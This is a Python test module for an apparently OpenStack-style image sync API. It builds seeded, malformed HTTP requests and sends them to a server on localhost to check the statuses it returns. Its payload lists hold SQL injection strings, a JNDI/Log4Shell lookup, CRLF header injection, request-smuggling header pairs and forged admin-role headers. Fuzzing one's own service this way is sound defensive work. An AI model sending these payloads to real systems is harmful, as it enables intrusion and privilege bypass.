# SPDX-License-Identifier: Apache-2.0
"""Requests that nobody means well, as bytes, and what a server answers to them."""

from collections.abc import Callable, Iterator, Mapping, Sequence
import contextlib
import dataclasses
import json
import random
import re
import socket
import struct
import uuid

from glance_sync_agent.api import operations

MIB = 1024 * 1024
_STATUS = re.compile(rb"HTTP/1\.[01] (\d{3}) ")
_QUIET_SECONDS = 0.2  # after which a server has nothing to say about half a request
_ANSWER_SECONDS = 30.0

_WRONG_IDS = (
    "1", "-1", "..", "%2e%2e", "%00", "*", "null", "x" * 4000, "'; DROP TABLE tasks; --",
    "0" * 36, "%F0%9F%92%A9", "{image_id}", "${jndi:ldap://192.0.2.1/}", "\u00e9".encode().hex(),
)
_WRONG_NAMES = ("NoSuchRegion", "%00", "..", "x" * 300, "%ff%fe", "RegionTwo%0d%0aX: y", "")
_WRONG_VALUES = (
    "9" * 1000, "9" * 30_000, "-1", "0", "1e9", "0x10", "NaN", "Infinity", "%EF%BC%91", "",
    "1%00", "true", "[]", "%ff",
)
_WRONG_JSON: Sequence[object] = (
    None, True, 0, -1, 1e308, 10**400, "", "x" * 10_000, [], [[]], {}, {"regions": None},
    {"regions": [None]}, {"regions": {"a": 1}}, {"regions": ["\ud800"]}, {"regions": ["x"] * 2000},
    {"region": ["RegionTwo"]}, {"paused": "yes"}, {"paused": True, "reason": 1},
    {"paused": True, "reason": "\x00"}, {"code": "' OR 1=1"}, {"since": "0000-00-00T00:00:00Z"},
    {"since": "9999-12-31T23:59:59-23:59"}, {"limit": 10**30}, {"__proto__": {}},
)
_METHODS = (
    "BREW", "TRACE", "CONNECT", "OPTIONS", "PUT", "get", "G\tT", "PROPFIND", "", "A" * 9000,
)


@dataclasses.dataclass(frozen=True, kw_only=True, slots=True)
class Request:
    """What is sent in one connection."""

    kind: str
    data: bytes
    is_whole: bool = True  # it is answered; False: the client goes away in the middle


class Requests:
    """Makes requests by chance; a seed repeats them."""

    def __init__(self, seed: int, tokens: Mapping[str, str]) -> None:
        """Begin.

        :param tokens: by who has them: ``admin``, ``foreign`` (another project) and ``expired``.
        """
        self._chance = random.Random(seed)
        self._tokens = tokens
        self._kinds: Mapping[str, Callable[[], Request]] = {
            "wrong id": self._wrong_id,
            "wrong region": self._wrong_region,
            "wrong value": self._wrong_value,
            "wrong body": self._wrong_body,
            "deep body": self._deep_body,
            "wrong text": self._wrong_text,
            "wrong method": self._wrong_method,
            "wrong token": self._wrong_token,
            "smuggled": self._smuggled,
            "wrong chunks": self._wrong_chunks,
            "wrong header": self._wrong_header,
            "pipelined": self._pipelined,
            "half": self._half,
        }

    def draw(self, count: int) -> Iterator[Request]:
        """Yield requests, of all kinds in turn; a large body is one in fifty."""
        makers = list(self._kinds.items())
        for number in range(count):
            if number % 50 == 49:
                yield self._large_body()
            else:
                kind, make = makers[number % len(makers)]
                yield dataclasses.replace(make(), kind=kind)

    def _one_of(self, values: Sequence[str]) -> str:
        return self._chance.choice(values)

    def _path(self, *, image_id: str | None = None, region: str = "RegionTwo") -> tuple[str, str]:
        """Return the method and the path of an operation."""
        found = self._chance.choice(operations.ALL)
        known = str(uuid.UUID(int=self._chance.getrandbits(128), version=4))
        path = found.path.replace("{image_id}", known if image_id is None else image_id)
        return found.method, path.replace("{region}", region)

    def _text(
        self,
        method: str,
        path: str,
        body: bytes = b"",
        *,
        headers: Sequence[str] = (),
        token: str | None = None,
    ) -> bytes:
        lines = [
            f"{method} {path} HTTP/1.1",
            "Host: 127.0.0.1",
            f"X-Auth-Token: {self._tokens['admin'] if token is None else token}",
            "Connection: close",
            *headers,
        ]
        if body and not any(one.lower().startswith("content-length") for one in headers):
            lines += [f"Content-Length: {len(body)}", "Content-Type: application/json"]
        return "\r\n".join([*lines, "", ""]).encode("latin-1", "replace") + body

    def _wrong_id(self) -> Request:
        image_id = self._one_of(_WRONG_IDS).replace(" ", "%20")
        return Request(kind="", data=self._text(*self._path(image_id=image_id)))

    def _wrong_region(self) -> Request:
        region = self._one_of(_WRONG_NAMES)
        method, path = self._path(region=region)
        body = json.dumps({"regions": [region or "x"]}).encode() if method == "POST" else b""
        return Request(kind="", data=self._text(method, f"{path}?region={region}", body))

    def _wrong_value(self) -> Request:
        names = ["limit", "marker", "sort", "since", "status", "code", "name", "region", "no"]
        chosen = self._chance.sample(names, self._chance.randint(1, 4))
        query = "&".join(f"{name}={self._one_of(_WRONG_VALUES)}" for name in chosen)
        path = self._one_of(["/v1/images", "/v1/events", "/v1/orphans", "/v1/summary"])
        return Request(kind="", data=self._text("GET", f"{path}?{query}"))

    def _wrong_body(self) -> Request:
        body = json.dumps(self._chance.choice(_WRONG_JSON)).encode()
        method, path = self._path()
        if self._chance.random() < 0.3:
            body = body[: self._chance.randint(0, len(body))] + self._chance.randbytes(3)
        method = "POST" if method == "GET" else method
        return Request(kind="", data=self._text(method, path, body))

    def _deep_body(self) -> Request:
        depth = self._chance.choice([100, 1000, 20_000])
        opening, closing = self._chance.choice([("[", "]"), ('{"a":', "}")])
        closed = closing * depth if self._chance.random() < 0.5 else ""
        body = f"{opening * depth}1{closed}".encode()
        path = f"/v1/images/{uuid.UUID(int=1)}/sync"
        return Request(kind="", data=self._text("POST", path, body))

    def _large_body(self) -> Request:
        path = self._one_of(["/v1/tasks/retry", "/v1/images", "/", "/metrics", "/no"])
        return Request(kind="large body", data=self._text("POST", path, b"x" * 10 * MIB))

    def _wrong_text(self) -> Request:
        junk = self._chance.randbytes(self._chance.randint(1, 300)).replace(b"\n", b"")
        data = self._text("GET", "/v1/images/@?name=@", headers=["X-Junk: @"])
        return Request(kind="", data=data.replace(b"@", junk))

    def _wrong_method(self) -> Request:
        path = self._one_of(["/v1/images", "/", "/metrics", "*", "http://192.0.2.1/v1/images", ""])
        return Request(kind="", data=self._text(self._one_of(_METHODS), path))

    def _wrong_token(self) -> Request:
        token = self._one_of(
            ["", "wrong", "x" * 9000, "\xff\xfe", "null", self._tokens["expired"],
             self._tokens["foreign"], "x" + self._tokens["admin"]]
        )
        headers = ["X-Identity-Status: Confirmed", "X-Roles: admin", "X_Roles: admin"]
        return Request(kind="", data=self._text(*self._path(), token=token, headers=headers))

    def _smuggled(self) -> Request:
        hidden = self._text("POST", "/v1/tasks/retry", token="")
        headers = self._chance.choice(
            [
                ["Content-Length: 4", "Transfer-Encoding: chunked"],
                ["Content-Length: 4", "Content-Length: 5"],
                ["Content-Length: 4, 4"],
                ["Content-Length: +4"],
                ["Content-Length: -1"],
                ["Content-Length: 4_0"],
                ["Content-Length: " + "9" * 500],
                ["Transfer-Encoding: gzip, chunked"],
                ["Transfer-Encoding: identity"],
                ["Transfer-Encoding: chunked, identity"],
                ["Transfer-Encoding : chunked"],
                ["Transfer-Encoding: xchunked"],
                ["Transfer-Encoding:\x0bchunked"],
                ["Content-Length: 4", "Expect: 100-continue"],
            ]
        )
        data = self._text("POST", "/v1/tasks/retry", b"0\r\n\r\n" + hidden, headers=[
            *headers, "Content-Length: 4" if "length" not in str(headers).lower() else "X-A: b",
        ])
        return Request(kind="", data=data)

    def _wrong_chunks(self) -> Request:
        size = self._one_of(["FFFFFFFFFFFFFFFFFF", "-1", "0x5", "zz", "", "5;a=b", "5 5", "5\n"])
        head = self._text("POST", "/v1/tasks/retry", headers=["Transfer-Encoding: chunked"])
        ending = self._one_of(["\r\n0\r\n\r\n", "\r\n0\r\nX-Roles: admin\r\n\r\n", "x" * 99])
        return Request(kind="", data=head + f"{size}\r\n{{}}xxx{ending}".encode(), is_whole=False)

    def _wrong_header(self) -> Request:
        header = self._one_of(
            [
                "X-Long: " + "x" * 40_000,
                "\r\n".join(f"X-{number}: y" for number in range(2000)),
                "No colon", ": no name", "X-Nul: \x00", "X-Folded: a\r\n b", "X-Bare: a\rb",
                "Content-Type: application/x-www-form-urlencoded", "Content-Type: \xff",
                "Content-Type: application/json; charset=utf-99", "Accept: text/\xff;q=x",
                "If-None-Match: " + '"x", ' * 500, "If-None-Match: \xff", "Range: bytes=5-1",
                "X-OpenStack-Request-ID: req-" + "x" * 5000, "Forwarded: for=\"",
                "X-Forwarded-For: " + ",".join(["::"] * 500), "Origin: null", "Upgrade: h2c",
                "X-Service-Token: wrong", "OpenStack-System-Scope: all", "Cookie: =;=",
                "X-Http-Method-Override: DELETE", "Content-Encoding: gzip", "Host: \xff",
            ]
        )
        body = b"{}" if self._chance.random() < 0.5 else b""
        method = "POST" if body else "GET"
        return Request(kind="", data=self._text(method, self._path()[1], body, headers=[header]))

    def _pipelined(self) -> Request:
        keep = b"Connection: keep-alive"
        many = [
            self._text("GET", self._path()[1]).replace(b"Connection: close", keep)
            for _ in range(self._chance.randint(2, 5))
        ]
        return Request(kind="", data=b"".join([*many, self._text("GET", "/")]))

    def _half(self) -> Request:
        data = self._text(*self._path(), b'{"regions": ["RegionTwo"]}')
        return Request(
            kind="", data=data[: self._chance.randint(0, len(data) - 1)], is_whole=False
        )


def statuses(answer: bytes) -> list[int]:
    """Return the statuses of all answers in what came back."""
    return [int(found) for found in _STATUS.findall(answer)]


def sent(port: int, request: Request) -> bytes:
    """Send a request in a connection of its own; return what comes back until its end.

    Who sends half a request waits a moment only, and resets the connection.
    """
    seconds = _ANSWER_SECONDS if request.is_whole else _QUIET_SECONDS
    with socket.create_connection(("127.0.0.1", port), timeout=_ANSWER_SECONDS) as client:
        # The server may refuse, and close, before all is sent.
        with contextlib.suppress(ConnectionError):
            client.sendall(request.data)
        client.settimeout(seconds)
        answer = _received(client, may_time_out=not request.is_whole)
        if not request.is_whole:
            client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    return answer


def _received(client: socket.socket, *, may_time_out: bool) -> bytes:
    answer = bytearray()
    try:
        while data := client.recv(65536):
            answer += data
    except ConnectionError:
        pass
    except TimeoutError:
        if not may_time_out:
            raise
    return bytes(answer)
